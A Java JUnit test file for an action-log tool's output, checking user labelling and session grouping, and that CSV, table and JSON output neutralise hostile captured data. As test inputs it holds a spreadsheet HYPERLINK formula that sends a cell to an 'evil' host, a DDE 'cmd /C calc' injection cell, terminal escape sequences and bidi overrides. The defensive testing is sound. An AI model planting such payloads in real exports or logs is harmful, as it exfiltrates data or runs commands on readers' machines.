package actionlog.support;

import static actionlog.core.ActionEvent.*;
import static org.junit.jupiter.api.Assertions.*;

import actionlog.core.ActionEvent;
import actionlog.core.EventCodec;
import actionlog.core.Json;
import java.io.ByteArrayOutputStream;
import java.io.OutputStreamWriter;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.time.ZoneOffset;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * How the table names the user (verified sources plainly, unverified ones and stitched events visibly), and output
 * that could attack its reader: spreadsheet formulas in CSV, terminal escape sequences in the table.
 */
class OutputTest {
    static ActionEvent event(String id, String user, String source, String session) {
        return new ActionEvent().put(ActionEvent.F_ID, id).put(ActionEvent.F_TIME, "2026-11-22T14:05:0" + id + "Z")
                .put(ActionEvent.F_USER, user).put(ActionEvent.F_USER_SOURCE, source).put(ActionEvent.F_SESSION, session)
                .put(ActionEvent.F_METHOD, "GET").put(ActionEvent.F_PATH, "/p" + id);
    }

    @Test
    void unverifiedSourcesAndStitchedEventsSaySo() {
        assertEquals("alice (origin)", Output.who(event("1", "alice", "origin", null)));
        assertEquals("alice (jwt)", Output.who(event("1", "alice", "jwt", null)));
        assertEquals("alice (UNVERIFIED: header)", Output.who(event("1", "alice", "header", null)));
        assertEquals("alice (UNVERIFIED: cookie)", Output.who(event("1", "alice", "cookie", null)));
        assertEquals("bob (UNVERIFIED: claimed)", Output.who(event("1", "bob", "claimed", null)));
        assertEquals("alice (stitched: anonymous event of this session before signing in, anon:1)",
                Output.who(event("1", "anon:1", "anonymous", null).put(ActionEvent.F_STITCHED_TO, "alice")));
        assertEquals("alice (linked: signed in on this browser, by login_form)",
                Output.who(event("1", "alice", "linked", null).put(ActionEvent.F_LINKED_BY, "login_form")));
    }

    @Test
    void tablesOfManyUsersMarkClaimedAndStitchedUsersToo() {
        ActionEvent claimed = event("1", "mallory", "claimed", null);
        ActionEvent stitched = event("2", "anon:1", "anonymous", null).put(ActionEvent.F_STITCHED_TO, "bob");
        assertTrue(Output.userRow(claimed, ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "mallory (UNVERIFIED)")),
                Output.userRow(claimed, ZoneOffset.UTC, false));
        assertTrue(Output.userRow(stitched, ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "bob (stitched)")),
                Output.userRow(stitched, ZoneOffset.UTC, false));
        assertTrue(Output.userRow(event("3", "bob", "origin", null), ZoneOffset.UTC, false).startsWith(String.format("%-32s 2026-", "bob")));
    }

    @Test
    void theTableStartsAGroupWhenTheSessionOrTheUserChanges() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Output.print(List.of(event("1", "anon:1", "anonymous", "s_a").put(ActionEvent.F_STITCHED_TO, "alice"),
                event("2", "alice", "origin", "s_a"), event("3", "alice", "origin", "s_a")),
                Output.Format.table, ZoneOffset.UTC, new PrintWriter(new OutputStreamWriter(out, StandardCharsets.UTF_8), true), false);
        List<String> headings = out.toString(StandardCharsets.UTF_8).lines().filter(l -> l.startsWith("──")).toList();
        assertEquals(List.of("── session s_a · user alice (stitched: anonymous event of this session before signing in, anon:1) ──",
                "── session s_a · user alice (origin) ──"), headings);
    }

    static ActionEvent event(String userAgent, String path) {
        return new ActionEvent().put(F_ID, "e1").put(F_TIME, "2026-11-22T14:05:00Z").put(F_USER, "alice")
                .put(F_METHOD, "GET").put(F_PATH, path).put(F_USER_AGENT, userAgent).put(F_STATUS, 200).put(F_LATENCY, -1);
    }

    static String print(List<ActionEvent> events, Output.Format format) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Output.print(events, format, ZoneOffset.UTC, new PrintWriter(new OutputStreamWriter(bytes, StandardCharsets.UTF_8), true), false);
        return bytes.toString(StandardCharsets.UTF_8);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
        assertEquals("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"Click\"\")\"", Output.csv("=HYPERLINK(\"http://evil/?x=\"&A2,\"Click\")"));
        assertEquals("'+1", Output.csv("+1"));
        assertEquals("'-2+3", Output.csv("-2+3"));
        assertEquals("'@SUM(A1)", Output.csv("@SUM(A1)"));
        assertEquals("\\x09x", Output.csv("\tx"), "a control character is escaped, and then starts no formula");
        assertEquals("\\x0dx", Output.csv("\rx"));
        assertEquals("-1", Output.csv(-1L), "numbers stay numbers");
        assertEquals("/a=b", Output.csv("/a=b"));
        String csv = print(List.of(event("=cmd|' /C calc'!A0", "/")), Output.Format.csv);
        assertTrue(csv.contains(",'=cmd|' /C calc'!A0,"), csv);
    }

    @Test
    void tableEscapesControlCharactersFromCapturedData() {
        String table = print(List.of(event("\u001b[2J\u001b[31mFAKE", "/x\u001b]0;title\u0007\u202e")), Output.Format.table);
        assertFalse(table.chars().anyMatch(c -> c == 0x1b || c == 0x07 || c == 0x202e), table);
        assertTrue(table.contains("/x\\x1b]0;title\\x07\\u202e"), table);
        assertTrue(table.contains("\\x1b[2J\\x1b[31mFAKE"), table);
    }

    static ActionEvent event(String id, String time, String user, String session, String path) throws Exception {
        Map<String, Object> f = new LinkedHashMap<>();
        f.put("schema_version", 1);
        f.put("event.id", id);
        f.put("event.received_at", time);
        f.put("user.id", user);
        if (session != null) f.put("session.id", session);
        f.put("http.request.method", "GET");
        f.put("url.path", path);
        f.put("http.response.status_code", 200);
        f.put("client.address", "203.0.113.9");
        return EventCodec.decode(Json.write(f));
    }

    static List<String> table(List<ActionEvent> events) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Output.print(events, Output.Format.table, ZoneOffset.UTC, new PrintWriter(new OutputStreamWriter(bytes, StandardCharsets.UTF_8), true), false);
        return bytes.toString(StandardCharsets.UTF_8).lines().toList();
    }

    /** What `ip` shows for one address: several users, without sessions, interleaved in time; rows stay in time order. */
    @Test
    void eventsOfOneAddressStayInTimeOrderWithAHeadingAtEachChange() throws Exception {
        List<ActionEvent> events = List.of(
                event("e1", "2026-11-22T14:05:00Z", "alice", null, "/a1"),
                event("e2", "2026-11-22T14:05:01Z", "bob", null, "/b1"),
                event("e3", "2026-11-22T14:05:02Z", "alice", null, "/a2"),
                event("e4", "2026-11-22T14:05:03Z", "bob", "s_1", "/b2"));
        List<String> lines = table(events);
        assertEquals(List.of("── session (none) · user alice ──", "/a1", "── session (none) · user bob ──", "/b1",
                "── session (none) · user alice ──", "/a2", "── session s_1 · user bob ──", "/b2", "4 event(s)"),
                lines.stream().map(OutputTest::headingOrPath).toList());
    }

    /**
     * One session's sign-in and sign-out, as `trace` shows it: anonymous events (stitched to the user) before and
     * after the signed-in ones. The sign-in POST comes before the sign-out, however the blocks change.
     */
    @Test
    void aSessionsEventsStayInTimeOrderAcrossStitchedAndSignedInBlocks() throws Exception {
        List<ActionEvent> events = List.of(
                event("e1", "2026-11-22T14:05:00Z", "anon:s_a", "s_a", "/login").put(F_STITCHED_TO, "alice"),
                event("e2", "2026-11-22T14:05:01Z", "anon:s_a", "s_a", "/login?signin").put(F_STITCHED_TO, "alice"),
                event("e3", "2026-11-22T14:05:02Z", "alice", "s_a", "/account"),
                event("e4", "2026-11-22T14:05:03Z", "alice", "s_a", "/logout"),
                event("e5", "2026-11-22T14:05:04Z", "anon:s_a", "s_a", "/login").put(F_STITCHED_TO, "alice"));
        String stitched = "── session s_a · user alice (stitched: anonymous event of this session before signing in, anon:s_a) ──";
        assertEquals(List.of(stitched, "/login", "/login?signin", "── session s_a · user alice ──", "/account", "/logout",
                stitched, "/login", "5 event(s)"), table(events).stream().map(OutputTest::headingOrPath).toList());
    }

    /** A heading as printed, a row as its path (the column after the method), the count line as printed. */
    static String headingOrPath(String line) {
        if (line.startsWith("──") || line.endsWith("event(s)")) return line;
        return line.substring(25).trim().split("\\s+")[1];
    }

    /** Escape sequences, C1 controls (CSI is one character there) and bidi overrides a hostile request can carry. */
    static final String HOSTILE = "/x\u001b[2J\u009b31m\u202eevil\u2066\u007f\u0007";

    static ActionEvent hostile() throws Exception {
        return event("e1", "2026-11-22T14:05:00Z", "mallory\u001b]0;t\u0007", "s_\u202e1", HOSTILE)
                .put(F_USER_AGENT, "curl/8 \u009b2J").put(F_QUERY, "q=\u200f\u061c");
    }

    static boolean raw(String text) {
        return text.chars().anyMatch(c -> (c < 0x20 && c != '\n' && c != '\r') || (c >= 0x7f && c <= 0x9f)
                || (c >= 0x202a && c <= 0x202e) || (c >= 0x2066 && c <= 0x2069) || c == 0x200e || c == 0x200f || c == 0x061c);
    }

    @Test
    void noFormatPrintsARawControlBidiOrC1Character() throws Exception {
        for (Output.Format format : Output.Format.values()) {
            String printed = print(List.of(hostile()), format);
            assertFalse(raw(printed), format + ": " + printed);
        }
        assertFalse(raw(Output.line(hostile(), Output.Format.table, ZoneOffset.UTC, false)));
        assertFalse(raw(Output.line(hostile(), Output.Format.csv, ZoneOffset.UTC, false)));
        assertFalse(raw(Output.line(hostile(), Output.Format.jsonl, ZoneOffset.UTC, false)));
        assertTrue(print(List.of(hostile()), Output.Format.csv).contains(",/x\\x1b[2J\\x9b31m\\u202eevil\\u2066\\x7f\\x07,"),
                "CSV shows the escapes the table shows");
    }

    @Test
    void jsonAndJsonLinesEscapeWithoutChangingAValue() throws Exception {
        String jsonl = print(List.of(hostile()), Output.Format.jsonl).strip();
        assertTrue(jsonl.toLowerCase(java.util.Locale.ROOT).contains("\"/x\\u001b[2j\\u009b31m\\u202eevil\\u2066\\u007f\\u0007\""), jsonl);
        assertEquals(HOSTILE, Json.readObject(jsonl).get(F_PATH));
        assertEquals("mallory\u001b]0;t\u0007", Json.readObject(jsonl).get(F_USER));
        List<Object> json = Json.readArray(print(List.of(hostile()), Output.Format.json));
        assertEquals(HOSTILE, ((Map<?, ?>) json.get(0)).get(F_PATH));
        assertEquals("q=\u200f\u061c", ((Map<?, ?>) json.get(0)).get(F_QUERY));
    }

    @Test
    void jsonHasNoOneLineForm() throws Exception {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> Output.line(hostile(), Output.Format.json, ZoneOffset.UTC, false));
        assertEquals("JSON has no one-line form; use jsonl (one JSON event a line)", e.getMessage());
    }
}
